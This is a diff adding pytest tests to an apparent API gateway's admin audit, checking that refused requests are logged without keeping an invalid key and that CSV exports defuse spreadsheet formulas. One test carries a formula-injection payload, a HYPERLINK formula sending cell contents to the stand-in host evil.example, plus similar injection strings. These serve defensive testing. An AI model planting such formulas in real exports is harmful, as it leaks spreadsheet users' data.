@@ -253,3 +253,68 @@ async def test_the_usage_routes_need_the_admin_secret(stack):
         for path in ("/metrics", "/usage", "/requests", "/requests/export"):
             async with http.get("/admin/api" + path) as resp:
                 assert resp.status == 401, path
+
+
+WRONG_KEY = "sk-not-a-key-of-this-gateway-9d2c71"
+
+
+async def test_requests_refused_for_their_key_or_body_are_in_the_audit(stack):
+    """A missing or unknown key (401) and a malformed body (400) never reach the chain's
+    job, yet the audit shows them as 4xx: the refused key as `none` (its value is never
+    kept), the malformed body under the key that sent it."""
+    await start(stack)
+    body = {"model": MODEL, "messages": [{"role": "user", "content": "hi"}]}
+    async with stack.http() as http:
+        async with http.post("/v1/chat/completions", json=body) as resp:
+            assert resp.status == 401
+        async with http.post("/v1/chat/completions", json=body,
+                             headers={"Authorization": f"Bearer {WRONG_KEY}"}) as resp:
+            assert resp.status == 401
+        async with http.post("/v1/chat/completions", json={"model": MODEL, "messages": "x"},
+                             headers={"Authorization": f"Bearer {API_KEY}"}) as resp:
+            assert resp.status == 400
+    await chat(stack.openai(api_key=API_KEY))  # and one that is served
+
+    page = await admin_json(stack, "/requests?status=4xx")
+    rows = {r["error_code"]: r for r in page["items"]}
+    assert page["total"] == 3 and set(rows) >= {"missing_api_key", "invalid_api_key"}
+    for code in ("missing_api_key", "invalid_api_key"):
+        assert rows[code]["status"] == 401 and rows[code]["key"] == "none"
+        assert rows[code]["key_name"] == "" and rows[code]["model"] == ""
+    (bad_body,) = [r for r in page["items"] if r["status"] == 400]
+    assert bad_body["key"] == "app" and bad_body["model"] == ""
+    assert (await admin_json(stack, "/requests?status=2xx"))["total"] == 1
+    status, exported = await admin_get(stack, "/requests/export?format=jsonl")
+    assert status == 200 and WRONG_KEY not in exported.decode()
+    assert WRONG_KEY not in orjson.dumps(await db_rows(stack, RequestAuditRow)).decode()
+
+
+async def test_the_csv_export_defuses_spreadsheet_formulas(stack):
+    """Text a client chose (the model it named, its request id) that a spreadsheet would run
+    as a formula is exported behind an apostrophe; JSON Lines keeps the value as it was."""
+    await start(stack)
+    client = stack.openai(api_key=API_KEY)
+    model = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    with pytest.raises(openai.BadRequestError):
+        await client.chat.completions.create(model=model, messages=[{"role": "user",
+                                                                     "content": "x"}])
+    for request_id in ("+1+cmd", "-2-2", "@SUM(A1:A9)"):
+        await chat(client, extra_headers={"X-Request-Id": request_id})
+
+    status, body = await admin_get(stack, "/requests/export?format=csv")
+    assert status == 200
+    table = list(csv.DictReader(io.StringIO(body.decode())))
+    assert len(table) == 4
+    assert {r["request_id"] for r in table} >= {"'+1+cmd", "'-2-2", "'@SUM(A1:A9)"}
+    assert [r["model"] for r in table if r["status"] == "400"] == ["'" + model]
+    for row in table:
+        assert not any(v.startswith(requests_admin.FORMULA_START) for v in row.values()), row
+    status, body = await admin_get(stack, "/requests/export?format=jsonl")
+    assert model in [json.loads(line)["model"] for line in body.decode().splitlines()]
+
+
+@pytest.mark.parametrize("value,cell", [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (None, ""), (-5, -5), (200, 200)])
+def test_a_csv_cell_is_text_when_a_spreadsheet_would_run_it(value, cell):
+    assert requests_admin.csv_cell(value) == cell
